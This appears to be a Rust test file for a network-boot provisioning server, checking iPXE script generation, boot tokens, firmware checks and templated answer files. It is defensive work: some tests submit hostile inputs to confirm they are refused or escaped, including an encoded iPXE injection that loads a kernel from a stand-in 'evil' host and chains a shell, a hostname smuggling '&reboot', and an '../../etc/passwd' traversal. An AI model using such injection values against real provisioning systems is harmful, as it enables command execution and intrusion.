//! What machines are served, as they see it.

use crate::on_both;
use crate::site::{MAC, Site, until};
use domain::boot_node::BootNode;
use domain::{MacAddress, Timestamp};
use serde_json::json;
use store::boot_node;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stranger_boots_its_disk_and_an_approved_one_its_installer() {
    let site = Site::new().await;
    let script = site.script(&format!("mac={}", MAC.to_uppercase().replace(':', "-"))).await;
    assert!(script.contains("exit") && !script.contains("token") && !script.contains("kernel"), "{script}");
    let id = site.approved(MAC).await;
    let script = site.script(&format!("mac={MAC}&arch=x86_64")).await;
    let url = &site.server.url;
    assert!(script.contains(&format!("kernel {url}/images/vmlinuz initrd=initrd.img quiet ")), "{script}");
    assert!(script.contains(&format!("millwright.url={url} ")), "{script}");
    assert!(script.contains(&format!("initrd --name initrd.img {url}/images/initrd")), "{script}");
    let token = site.token(MAC).await.expect("a token");
    site.says(&token, MAC, "started", json!({})).await;
    site.says(&token, MAC, "complete", json!({})).await;
    assert!(site.script(&format!("mac={MAC}")).await.contains("exit"), "installed boots from its disk");
    site.moved(&id, "active").await;
    assert_eq!(site.token(MAC).await, None);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_said_at_boot_gets_into_no_script() {
    let site = Site::new().await;
    let hostile = "x%0Aimgfree%0Akernel%20http%3A%2F%2Fevil%2Fk%20${mac}%20%26%26%20shell%22%27%60";
    let w = json!({ "id": "named", "kernel": "vmlinuz", "cmdline": "host=${hostname} serial=${serial}" });
    site.http.post("/api/v1/workflows", &w).await.ok();
    site.script(&format!(
        "mac={MAC}&serial={hostile}&product={hostile}&vendor={hostile}&uuid={hostile}&hostname={hostile}"
    ))
    .await;
    site.patch(MAC, &json!({ "workflow_id": "named" })).await.ok();
    site.moved(MAC, "pending").await;
    let script = site.script(&format!("mac={MAC}")).await;
    assert!(!script.contains("evil") || !script.contains("\nkernel"), "{script}");
    // the line of every script that ends at the disk is ours
    let script = script.replace("iseq ${platform} efi && exit 1 || exit\n", "");
    assert!(!script.contains("imgfree\n") && !script.contains("${") && !script.contains("&&"), "{script}");
    assert!(!script.contains("token="), "what cannot be rendered is not served: {script}");
    // named by an operator, it is
    site.patch(MAC, &json!({ "hostname": "web-1" })).await.ok();
    let w = json!({ "id": "plain", "kernel": "vmlinuz", "cmdline": "host=${hostname}" });
    site.http.post("/api/v1/workflows", &w).await.ok();
    let id = site.node(MAC).await["id"].as_str().expect("an id").to_owned();
    site.http.send("DELETE", &format!("/api/v1/nodes/{id}"), &[], b"").await.ok();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workflow_for_other_firmware_is_refused_on_the_machines_console() {
    let site = Site::new().await;
    let w = json!({ "id": "uefi", "kernel": "vmlinuz", "arch": "x86_64", "boot_mode": "uefi" });
    site.http.post("/api/v1/workflows", &w).await.ok();
    site.script(&format!("mac={MAC}&arch=i386&platform=pcbios")).await;
    site.patch(MAC, &json!({ "workflow_id": "uefi" })).await.ok();
    site.moved(MAC, "pending").await;
    let script = site.script(&format!("mac={MAC}&polls=1")).await;
    assert!(script.contains("echo Millwright: workflow uefi is for uefi, and this machine boots by bios"), "{script}");
    assert!(!script.contains("token="), "{script}");
    // somebody has changed its firmware's settings
    let script = site.script(&format!("mac={MAC}&arch=x86_64&platform=efi")).await;
    assert!(script.contains("token="), "{script}");
    // iPXE for BIOS says i386 of every processor
    let script = site.script(&format!("mac={MAC}&arch=i386&platform=efi")).await;
    assert!(script.contains("token="), "{script}");
}

/// Files of answers are shell in half of their uses: what a machine is called is nobody's command there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_machine_is_called_runs_nothing_in_a_file_of_answers() {
    let site = Site::new().await;
    let w = json!({ "id": "late", "kernel": "vmlinuz", "template": "hostnamectl set-hostname ${hostname}\n" });
    site.http.post("/api/v1/workflows", &w).await.ok();
    site.script(&format!("mac={MAC}&hostname=a%26reboot")).await;
    site.patch(MAC, &json!({ "workflow_id": "late" })).await.ok();
    site.moved(MAC, "pending").await;
    let token = site.token(MAC).await.expect("a token");
    let answers = format!("/api/v1/boot/answers?token={token}");
    let refused = site.http.send("GET", &answers, &[("Authorization", "-")], b"").await;
    refused.refused(400, "INVALID_FIELD");
    site.script(&format!("mac={MAC}&hostname=a-1")).await;
    let answered = site.http.send("GET", &answers, &[("Authorization", "-")], b"").await;
    assert_eq!(answered.text(), "hostnamectl set-hostname a-1\n");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_questions_are_told_so() {
    let site = Site::new().await;
    for query in ["", "mac=", "mac=zz", "mac=ff:ff:ff:ff:ff:ff", "mac=00:00:00:00:00:00", "mac=../../etc/passwd"] {
        site.boot(query).await.refused(400, "INVALID_FIELD");
    }
    assert_eq!(site.http.get("/api/v1/nodes").await.ok()["nodes"], json!([]), "nobody was written down");
    let first = site.http.send("GET", "/boot.ipxe", &[("Authorization", "-")], b"").await.text();
    assert!(first.contains("/api/v1/boot?mac=${netX/mac}&uuid=${uuid}"), "{first}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_bearer_of_a_token_is_told_what_to_do() {
    let site = Site::new().await;
    let w = json!({ "id": "ci", "kernel": "vmlinuz", "template": "#cloud-config\nhostname: ${hostname:yaml}\n" });
    site.http.post("/api/v1/workflows", &w).await.ok();
    site.script(&format!("mac={MAC}")).await;
    site.patch(MAC, &json!({ "workflow_id": "ci", "hostname": "web \"1\"" })).await.ok();
    site.moved(MAC, "pending").await;
    let token = site.token(MAC).await.expect("a token");
    let bearer = format!("Bearer {token}");
    let with = [("Authorization", bearer.as_str())];
    let order = site.http.send("GET", "/api/v1/boot/order", &with, b"").await.text();
    assert!(order.starts_with("task='install'\n") && order.contains("attempt='1'\n"), "{order}");
    let answers =
        site.http.send("GET", &format!("/api/v1/boot/answers?token={token}"), &[("Authorization", "-")], b"").await;
    assert_eq!(answers.text(), "#cloud-config\nhostname: \"web \\\"1\\\"\"\n");
    let seed = site.http.send("GET", "/api/v1/boot/seed/meta-data", &with, b"").await.text();
    assert!(seed.starts_with("instance-id: ord_") && seed.contains("local-hostname: \"web1\"\n"), "{seed}");
    site.http
        .send("GET", "/api/v1/boot/order", &[("Authorization", "Bearer nobody")], b"")
        .await
        .refused(401, "REPORT_TOKEN_INVALID");
    site.says(&token, MAC, "started", json!({})).await;
    site.says(&token, MAC, "complete", json!({})).await;
    assert_eq!(site.http.send("GET", "/api/v1/boot/order", &with, b"").await.status(), 409, "it has ended");
}

on_both!(a_machine_with_nothing_new_to_say_is_seen_a_moment_after_its_answer, |site| {
    let macs = [MAC, "52:54:00:4d:59:02"];
    for mac in macs {
        site.script(&format!("mac={mac}")).await;
        // as if that had been long ago
        let mac = MacAddress::parse(mac).expect("a MAC address");
        let long_ago = move |tx: &mut store::Tx<'_>| {
            let node = tx.point(&boot_node::by_mac(&mac))?.expect("is there");
            boot_node::save(tx, &BootNode { last_seen: Some(Timestamp::from_micros(1)), ..node })
        };
        site.server.fleet.store.write(&store::Caller::new("test"), "t", long_ago).await.expect("written");
    }
    for mac in macs {
        let before = site.node(mac).await;
        assert!(site.script(&format!("mac={mac}")).await.contains("exit"));
        until("it was seen", || async { site.node(mac).await["last_seen"] != before["last_seen"] }).await;
        assert_eq!(site.node(mac).await["version"], before["version"], "no news but the time");
    }
});
